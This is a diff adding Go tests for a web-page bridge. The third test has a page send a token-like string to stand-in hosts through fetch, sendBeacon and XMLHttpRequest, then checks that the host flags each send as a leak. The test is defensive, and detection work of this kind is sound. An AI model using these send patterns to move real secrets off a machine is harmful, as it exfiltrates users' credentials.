@@ -1,0 +1,79 @@
+//go:build cgo && linux
+
+package window
+
+import (
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/jembatan/jembatan/bridge"
+	"github.com/jembatan/jembatan/bridge/conformance"
+)
+
+// Both window kinds of "when a call was made" are there only in a real page.
+func TestPageTellsHowACallCameAbout(t *testing.T) {
+	inWindows(t, func(t *testing.T) {
+		h := conformance.NewHost(t, bridge.Limits{})
+		openPage(t, h.Session).Load(`
+			const tell = (when) => my.about({success: (r) => my.report({when, ...r})});
+			tell('while it loads');
+			dispatchEvent(new Event('pageshow')); // the page's own: it says nothing
+			dispatchEvent(new Event('pointerdown'));
+			tell('after events of its own');
+			addEventListener('pageshow', (e) => { if (e.isTrusted) { tell('while shown'); setTimeout(() => tell('later'), 20); } });`)
+		for _, want := range []string{
+			`{"when":"while it loads","beforeInput":true,"whileShown":false}`,
+			`{"when":"after events of its own","beforeInput":true,"whileShown":false}`,
+			`{"when":"while shown","beforeInput":true,"whileShown":true}`,
+			`{"when":"later","beforeInput":true,"whileShown":false}`,
+		} {
+			if diff := cmp.Diff(want, h.Report(t)); diff != "" {
+				t.Error(diff)
+			}
+		}
+	})
+}
+
+func TestHostsWarningIsOnThePagesConsoleAndIsNoLineOfThePage(t *testing.T) {
+	inWindows(t, func(t *testing.T) {
+		h := conformance.NewHost(t, bridge.Limits{})
+		openPage(t, h.Session).Load(`my.about({warn: 'mind this', complete: () => console.log('done')})`)
+		h.Record.Wait(t, `warning {"id":1,"rule":"test","text":"mind this"}`)
+		h.Record.Wait(t, `console {"level":"log","text":"done"}`)
+		if lines := h.Record.Lines("console"); len(lines) != 1 {
+			t.Errorf("the page's own lines are %q", lines)
+		}
+	})
+}
+
+// TestCodeOnItsWayToAnotherMachineIsNoticed has a page send what looks like a
+// code in every way that is watched. No such machine can be reached from here.
+func TestCodeOnItsWayToAnotherMachineIsNoticed(t *testing.T) {
+	inWindows(t, func(t *testing.T) {
+		h := conformance.NewHost(t, bridge.Limits{})
+		openPage(t, h.Session).Load(`(async () => {
+			const code = 'sandbox_' + 'x'.repeat(43);
+			const ignore = () => {};
+			fetch('/here', {method: 'POST', body: code}).catch(ignore);
+			fetch('http://localhost:1/?code=' + code).catch(ignore);
+			fetch('http://other.test/?code=none').catch(ignore);
+			fetch('http://Query.test/?code=' + code).catch(ignore);
+			fetch('http://body.test/', {method: 'POST', body: JSON.stringify({code})}).catch(ignore);
+			fetch(new Request('http://request.test/?' + code)).catch(ignore);
+			navigator.sendBeacon('http://beacon.test/', new URLSearchParams({code}));
+			const x = new XMLHttpRequest();
+			x.open('POST', 'http://xhr.test/');
+			x.send('code=' + code);
+			my.report([fetch.name, fetch.length, XMLHttpRequest.prototype.open.length]);
+		})()`)
+		if got, want := h.Report(t), `["fetch",1,2]`; got != want {
+			t.Errorf("what is wrapped looks like %s, want %s", got, want)
+		}
+		for _, host := range []string{"query.test", "body.test", "request.test", "beacon.test", "xhr.test"} {
+			h.Record.Wait(t, `warning {"rule":"leak"`, "sent to "+host+",")
+		}
+		if lines := h.Record.Lines("warning"); len(lines) != 5 {
+			t.Errorf("warnings are %q, want five", lines)
+		}
+	})
+}
